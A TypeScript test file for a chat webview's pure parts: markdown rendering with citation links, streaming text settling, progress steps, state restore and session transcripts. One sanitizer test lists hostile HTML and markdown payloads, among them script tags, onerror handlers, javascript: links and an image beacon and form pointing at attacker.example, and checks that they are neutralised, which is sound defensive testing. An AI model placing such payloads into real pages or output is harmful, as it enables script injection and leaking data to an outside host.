/**
 * The chat UI's pure parts: the markdown renderer (over DOMPurify on jsdom's window), the
 * settled prefix of a streaming answer, the progress steps, questions with context, restored
 * state and transcripts from a session's events. The real webview is tested in test/e2e.
 */
import createDOMPurify from 'dompurify';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { createMarkdownRenderer } from '../../webview/chat/markdown';
import { applyStep, composeQuestion, emptyState, mergeActivity, newerState, persistable, restoreState, settledLength, transcriptOf } from '../../webview/chat/state';

const window = new JSDOM('').window;
const md = createMarkdownRenderer(createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]));
const dom = (html: string) => {
  const d = window.document.createElement('div');
  d.innerHTML = html;
  return d;
};

describe('chat markdown', () => {
  it('turns citations into links the view opens, and leaves links and slices alone', () => {
    const d = dom(md.render('See [src/a.ts:12-20] and [note:design/Cache plan.md], [thread:auth#3], [commit:abc1234]; [docs](https://example.com) and `xs[a:10]`.'));
    expect([...d.querySelectorAll('a.cite')].map((a) => a.getAttribute('data-cite'))).toEqual(['[src/a.ts:12-20]', '[note:design/Cache plan.md]', '[thread:auth#3]', '[commit:abc1234]']);
    expect(d.querySelector('a:not(.cite)')?.getAttribute('href')).toBe('https://example.com');
    expect(d.querySelector('code')?.textContent).toBe('xs[a:10]');
  });

  it('a grouped citation yields a link per location', () => {
    const d = dom(md.render('Both [a.go:3, b.go:9] matter.'));
    expect([...d.querySelectorAll('a.cite')].map((a) => a.textContent)).toEqual(['a.go:3', 'b.go:9']);
  });

  it('neutralises hostile markdown: scripts, handlers, images, javascript: and data: links, styles, forms', () => {
    const hostile = [
      '<script>alert(1)</script>',
      '<img src=x onerror="alert(2)">',
      '![pixel](https://attacker.example/?secret=1)',
      '[click](javascript:alert(3))',
      '[data](data:text/html,<script>alert(4)</script>)',
      '<a href="javascript:alert(5)">x</a>',
      '<div style="position:fixed" onclick="alert(6)">overlay</div>',
      '<form action="https://attacker.example"><input name=a></form>',
      '<svg><script>alert(7)</script></svg>',
      '<iframe src="https://attacker.example"></iframe>',
    ].join('\n\n');
    const html = md.render(hostile);
    const d = dom(html);
    expect(d.querySelectorAll('script, img, svg, iframe, form, input, style, [onerror], [onclick], [style]').length).toBe(0);
    for (const a of d.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').toMatch(/^(https?:\/\/|#|$)/);
    for (const e of d.querySelectorAll('*')) for (const attr of e.attributes) expect(attr.value).not.toMatch(/javascript:|data:/i);
    // Raw HTML is shown as text, so the reader sees what the model wrote.
    expect(d.textContent).toContain('<script>alert(1)</script>');
    expect(d.textContent).toContain('[image: pixel]');
  });

  it('highlights known languages with classes only, escapes the rest', () => {
    const d = dom(md.render('```go\nfunc main() {}\n```\n\n```cobol\n<b>x</b>\n```'));
    expect(d.querySelectorAll('pre code .hljs-keyword').length).toBeGreaterThan(0);
    expect(d.querySelectorAll('pre')[1]?.textContent).toBe('<b>x</b>');
    expect(d.querySelectorAll('pre b').length).toBe(0);
  });
});

describe('chat state', () => {
  it('of the webview\'s copy and the extension\'s, the newer one is restored', () => {
    const older = persistable({ ...emptyState(), draft: 'older' }, 1000);
    const newer = persistable({ ...emptyState(), draft: 'newer' }, 2000);
    expect(newerState(older, newer)).toBe(newer);
    expect(newerState(newer, older)).toBe(newer);
    expect(newerState(undefined, older)).toBe(older);
    expect(newerState(older, null)).toBe(older);
    // A copy saved before states carried a time loses to one that has it.
    const untimed = { ...emptyState(), draft: 'untimed' };
    expect(newerState(untimed, older)).toBe(older);
    expect(restoreState(newerState(older, newer)).draft).toBe('newer');
  });

  it('settles streaming text at paragraph breaks outside code blocks', () => {
    const text = 'First paragraph.\n\nSecond, still';
    expect(settledLength(text, 0)).toBe('First paragraph.\n\n'.length);
    const fenced = 'Intro.\n\n```go\nx := 1\n\ny := 2\n';
    expect(settledLength(fenced, 0)).toBe('Intro.\n\n'.length);
    const closed = `${fenced}\`\`\`\n\nAfter`;
    expect(settledLength(closed, 0)).toBe(closed.length - 'After'.length);
    expect(settledLength('no break yet', 0)).toBe(0);
  });

  it('puts context into the question as cited blocks', () => {
    expect(composeQuestion('What does this do?', [{ kind: 'selection', path: 'src/a.ts', startLine: 3, endLine: 5, text: 'const a = 1;', language: 'typescript' }, { kind: 'file', path: 'src/b.ts' }])).toBe(
      'What does this do?\n\nAbout [src/a.ts:3-5]:\n```typescript\nconst a = 1;\n```\n\nAbout the file src/b.ts.',
    );
  });

  it('turns progress events into steps, each path once', () => {
    let steps = applyStep([], { type: 'step', name: 'code', family: 'code', state: 'running' });
    steps = applyStep(steps, { type: 'step', name: 'notes', family: 'notes', state: 'running' });
    steps = applyStep(steps, { type: 'step', name: 'code', family: 'code', state: 'ok', results: 4, ms: 12 });
    steps = applyStep(steps, { type: 'phase', phase: 'synthesize', message: 'asking fake-chat' });
    expect(steps.map((s) => s.label)).toEqual(['Searching code: 4 found (12 ms)', 'Reading notes…', 'Writing the answer (fake-chat)…']);
  });

  it('restores only its own state, and a question cut off by a reload as stopped', () => {
    expect(restoreState({ something: 'else' }).messages).toEqual([]);
    const s = restoreState({ v: 1, messages: [{ id: 'a1', role: 'assistant', text: 'half', at: 1, status: 'streaming' }] });
    expect(s.messages[0]?.status).toBe('stopped');
    expect(s.sources).toEqual(['code', 'notes', 'threads', 'git']);
  });

  it("rebuilds a session's transcript and merges other clients' calls once", () => {
    const events = [
      { kind: 'tool_call' as const, author: 'vscode chat', tool: 'ask_oracle', text: 'ask_oracle({"question":"How does add work?"})', created_at: '2026-01-01T00:00:00Z' },
      { kind: 'tool_result' as const, author: 'ask_oracle', tool: 'ask_oracle', text: '{"answer":"It adds [math.ts:2].","mode":"llm","noContext":false}', created_at: '2026-01-01T00:00:01Z' },
      { kind: 'tool_call' as const, author: 'claude-code@1.0', tool: 'find_references', text: 'find_references({"symbol":"add"})', created_at: '2026-01-01T00:00:02Z' },
    ];
    const t = transcriptOf(events);
    expect(t.map((m) => [m.role, m.text])).toEqual([
      ['user', 'How does add work?'],
      ['assistant', 'It adds [math.ts:2].'],
      ['activity', 'find_references({"symbol":"add"})'],
    ]);
    const mine = t.slice(0, 2);
    const merged = mergeActivity(mine, events, (a) => / chat$/.test(a));
    expect(merged.map((m) => m.role)).toEqual(['user', 'assistant', 'activity']);
    expect(mergeActivity(merged, events, (a) => / chat$/.test(a))).toHaveLength(3);
  });
});
